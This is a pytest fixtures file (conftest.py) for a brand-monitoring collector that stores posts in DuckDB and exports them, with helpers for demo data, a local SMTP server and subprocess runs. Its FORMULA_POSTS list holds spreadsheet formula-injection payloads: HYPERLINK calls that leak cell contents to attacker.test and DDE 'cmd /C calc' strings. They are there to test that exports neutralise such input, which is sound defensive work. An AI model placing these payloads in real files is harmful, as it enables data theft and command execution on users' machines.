"""Shared fixtures: a small demo watch collected once per session into a real DuckDB file."""

from __future__ import annotations

import base64
import csv
import json
import os
import re
import signal
import subprocess
import sys
from pathlib import Path

import duckdb
import numpy as np
import pytest

ROOT = Path(__file__).resolve().parent.parent
REALDATA = ROOT.parent / "shared" / "realdata"
DEMO_END = "2026-06-30"
DEMO_ITEMS = 4000

# The tests import our packages from the repository root, whatever the working directory.
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

# The throw-away PostgreSQL server and lakes of the DuckLake tests (tests/lake.py).
pytest_plugins = ["tests.lake"]


def db_rows(db: Path | str, sql: str, params=()) -> list[tuple]:
    """Run ``sql`` on ``db`` through a short read-only connection, as the app reads."""
    con = duckdb.connect(str(db), read_only=True)
    try:
        return con.execute(sql, list(params or [])).fetchall()
    finally:
        con.close()


def unpack_plotly(value):
    """Plotly's figure JSON with its base64-packed numeric arrays turned back into lists."""
    if isinstance(value, dict):
        if "bdata" in value and "dtype" in value:
            array = np.frombuffer(base64.b64decode(value["bdata"]), dtype=value["dtype"])
            return array.reshape(value["shape"]).tolist() if "shape" in value else array.tolist()
        return {k: unpack_plotly(v) for k, v in value.items()}
    if isinstance(value, list):
        return [unpack_plotly(v) for v in value]
    return value


def figure_of(chart) -> dict:
    """The unpacked figure of one AppTest ``plotly_chart`` element."""
    return unpack_plotly(json.loads(chart.proto.spec))


TWO_BRANDS = '[[brands]]\nname = "Acme"\nquery = "acme"\n\n' \
             '[[brands]]\nname = "Globex"\nquery = "globex"\n'


def local_watch(folder: Path, sources: str, brands: str = TWO_BRANDS):
    """Write and load a watch.toml whose sources may fetch 127.0.0.1 without delay.

    ``sources`` and ``brands`` are TOML text (``[[sources]]`` / ``[[brands]]`` tables).
    """
    from collectors import kind_options
    from config import load_watch

    config = folder / "watch.toml"
    config.write_text('[collect]\nper_host_delay = 0\nallow_networks = ["127.0.0.0/8"]\n\n'
                      f"{brands}\n{sources}", encoding="utf-8")
    return load_watch(config, kinds=kind_options())


def acme_file_watch(extra: str = "", own: bool = False, every: str | None = None) -> str:
    """A watch.toml of one brand, Acme, heard through ``posts.csv`` (id, text, date) beside
    it; ``extra`` is TOML appended (``[[notify]]`` targets…)."""
    return ('[[brands]]\nname = "Acme"\nquery = "acme"\n' + ("own = true\n" if own else "")
            + '\n[[sources]]\nname = "posts"\nkind = "file"\npath = "posts.csv"\n'
            + (f'every = "{every}"\n' if every else "")
            + 'columns = { id = "id", text = "text", published_at = "date" }\n\n' + extra)


def write_demo_watch(folder: Path, items: int = DEMO_ITEMS, end: str = DEMO_END) -> Path:
    """Write a watch.toml with the shipped demo brands and a demo source of ``items`` items."""
    shipped = (ROOT / "watch.toml").read_text(encoding="utf-8")
    head = shipped.split("[[sources]]", 1)[0]
    path = folder / "watch.toml"
    path.write_text(head + f'[[sources]]\nname = "demo"\nkind = "demo"\nitems = {items}\n'
                    f'end = "{end}"\n', encoding="utf-8")
    return path


def collect(config: Path, db: Path, *extra: str, check: bool = True,
            env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    """Run ``python -m collectors run`` for real, as a user would, and return the process."""
    proc = subprocess.run(
        [sys.executable, "-m", "collectors", "run", "--config", str(config), "--db", str(db),
         "--quiet", *extra],
        cwd=ROOT, capture_output=True, text=True, timeout=600,
        env={**os.environ, **(env or {})},
    )
    if check and proc.returncode != 0:
        raise AssertionError(f"collectors run failed ({proc.returncode}):\n{proc.stdout}\n"
                             f"{proc.stderr}")
    return proc


def start_watch(config: Path, db: Path, **popen) -> subprocess.Popen:
    """Start ``python -m collectors watch`` for real, quiet; ``popen`` says where its output
    goes."""
    return subprocess.Popen(
        [sys.executable, "-m", "collectors", "watch", "--config", str(config), "--db", str(db),
         "--quiet"], cwd=ROOT, env=dict(os.environ), **popen)


def stop_watch(proc: subprocess.Popen) -> None:
    """Stop a collector as Ctrl-C would, killing it if it has not stopped within 30 s."""
    proc.send_signal(signal.SIGINT)
    try:
        proc.communicate(timeout=30)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.communicate()


@pytest.fixture(scope="session")
def demo_db(tmp_path_factory) -> Path:
    """A database holding a 4,000-item demo watch ending 2026-06-30 (read it, don't write)."""
    folder = tmp_path_factory.mktemp("demo")
    config = write_demo_watch(folder)
    db = folder / "veille.duckdb"
    collect(config, db)
    return db


@pytest.fixture(scope="session")
def demo_config(demo_db) -> Path:
    """The watch.toml that produced :func:`demo_db`."""
    return demo_db.parent / "watch.toml"


@pytest.fixture
def mailbox():
    """A real SMTP server on 127.0.0.1 keeping the messages it receives (``.messages``)."""
    from tests.receivers import Mailbox

    box = Mailbox()
    box.controller.start()
    yield box
    box.controller.stop()


@pytest.fixture
def realdata() -> Path:
    """The shared real-world files; the test is skipped where they are absent."""
    if not REALDATA.is_dir():
        pytest.skip(f"real-world data folder {REALDATA} is absent on this machine")
    return REALDATA


# Posts a spreadsheet would run as formulas, as an attacker writes them. The one with a leading
# space is inert as written but the file importer trims it: exports must neutralise it too.
FORMULA_POSTS = [
    # (title, text, author)
    ("=HYPERLINK(\"http://attacker.test/?x=\"&A1,\"click\")", "acme price list", "ann"),
    ("Acme news", "=HYPERLINK(\"http://attacker.test/?x=\"&A1,\"acme\")", "bob"),
    ("+cmd|' /C calc'!A0", "acme +1", "@mallory"),
    ("-2+3+cmd|' /C calc'!A0", "-acme-1", "=1+1"),
    ("Acme", " =1+1 acme", " @SUM(1+1)"),
    ("\t=1+1 acme", "@acme hello", "\r=1+1"),
]
# How a spreadsheet sees a cell: leading blanks trimmed, then a formula if it starts so.
FORMULA_CELL = re.compile(r"^\s*[=+\-@]")


def formula_watch(folder: Path) -> tuple[Path, Path]:
    """A watch with one ``file`` source holding :data:`FORMULA_POSTS`, collected for real into
    ``folder``; return (watch.toml, database)."""
    with open(folder / "posts.csv", "w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(["id", "title", "text", "author", "published_at"])
        for n, (title, text, author) in enumerate(FORMULA_POSTS):
            writer.writerow([n, title, text, author, f"2026-06-{10 + n:02d} 10:00:00"])
    config = folder / "watch.toml"
    config.write_text('name = "Formulas"\n\n[[brands]]\nname = "Acme"\nquery = "acme"\n'
                      'own = true\n\n[[sources]]\nname = "posts"\nkind = "file"\n'
                      'path = "posts.csv"\ncolumns = { id = "id", title = "title", '
                      'text = "text", author = "author", published_at = "published_at" }\n',
                      encoding="utf-8")
    db = folder / "veille.duckdb"
    collect(config, db)
    return config, db


@pytest.fixture(scope="session")
def formula_db(tmp_path_factory) -> Path:
    """A database whose posts start with spreadsheet formulas (read it, don't write)."""
    return formula_watch(tmp_path_factory.mktemp("formulas"))[1]
